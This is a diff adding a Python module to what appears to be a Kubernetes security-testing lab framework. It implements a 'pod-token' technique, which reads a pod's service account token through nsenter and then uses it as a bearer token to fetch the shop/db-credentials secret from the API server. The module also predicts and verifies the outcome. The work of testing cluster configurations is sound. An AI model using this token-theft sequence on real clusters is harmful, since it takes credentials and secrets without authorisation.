@@ -1,0 +1,118 @@
+"""Read secrets with the token that Kubernetes puts into every pod unless it is told not to."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeError
+from labkit.model import Claim, View
+from labkit.model.authorization import AUTHENTICATED
+from labkit.model.rights import Action, Caller
+from labkit.model.workloads import service_account_of, token_in
+from labkit.techniques._access import CHANNEL, api_url, may_all
+from labkit.techniques._ask import ask
+from labkit.techniques._base import POD, SECRETS, Prediction, Technique
+from labkit.techniques._reach import FIND_POD, Answer, run
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+NAMESPACE, NAME = "shop", "web"
+PATH = "/api/v1/namespaces/shop/secrets/db-credentials"
+TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
+#: In the pod's own files, as its user.
+READ = f"""{FIND_POD}
+exec nsenter --target $pid --mount --setuid 1000 --setgid 1000 cat {TOKEN}
+"""
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether there is a token, and what its owner may do."""
+    token = token_in(view.env, NAMESPACE, NAME)
+    if token.value != "mounted":
+        return Prediction(False, (str(token),))
+    user = service_account_of(view.env, NAMESPACE, NAME)
+    groups = {AUTHENTICATED, "system:serviceaccounts", f"system:serviceaccounts:{NAMESPACE}"}
+    caller = Caller(user, frozenset(groups), Claim("required", user, token.source))
+    wanted = Action("get", "secrets", namespace=NAMESPACE, name="db-credentials")
+    return may_all(view, caller, [wanted])
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Take the token out of the pod shop/web, and ask for a secret with it."""
+    secret = true_secret(lab, "shop", "db-credentials", "password")
+
+    def proof(answer: Answer) -> str:
+        if not secret.found_in(answer.body):
+            raise ProbeError("the apiserver answered, but not with the secret")
+        return f"with the token of {NAMESPACE}/{NAME}, read: {secret.proof}"
+
+    def control() -> str:
+        lab.kubectl("get", f"--raw={PATH}")
+        return "the administrator reads it on the same port"
+
+    token = _token(lab)
+    if token is None:
+        evidence = (f"looked for {TOKEN} in {NAMESPACE}/{NAME}",)
+        return Verdict(
+            TECHNIQUE.name,
+            lab.mode,
+            foothold,
+            False,
+            "no token in the pod",
+            evidence,
+            "the page that the pod serves is read from the same files",
+        )
+    return ask(
+        lab,
+        TECHNIQUE.name,
+        foothold,
+        api_url(lab, PATH),
+        options=["--header", f"Authorization: Bearer {token}"],
+        proof=proof,
+        control=control,
+    )
+
+
+def _token(lab: Lab) -> str | None:
+    """Return the pod's token; None where it was given none."""
+    node = next(node.name for node in lab.environment.nodes if node.role == "worker")
+    output = run(lab, node, ["sh", "-c", READ])
+    if not output.exit_code:
+        return output.text.strip()
+    if "No such file" not in output.error:
+        raise ProbeError(f"the token cannot be read: {output.error.strip()[-200:]}")
+    page = READ.replace(TOKEN, "/tmp/www/index.html")  # noqa: S108 - of the pod
+    if run(lab, node, ["sh", "-c", page], check=True).text.strip() != "shop":
+        raise ProbeError("these are not the files of the pod shop/web")
+    return None
+
+
+def _settings(env: Environment) -> list[Setting]:
+    token = token_in(env, NAMESPACE, NAME)
+    return [("the token in shop/web", token.value, str(token.source))]
+
+
+TECHNIQUE = Technique(
+    name="pod-token",
+    title="Read secrets with the token of a pod",
+    footholds=(POD,),
+    grants=(SECRETS,),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1528", "T1552.007"),
+    stride=("information disclosure", "elevation of privilege"),
+    cwe=("CWE-250", "CWE-862"),
+    sources=(
+        "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/",
+        "https://attack.mitre.org/techniques/T1528/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
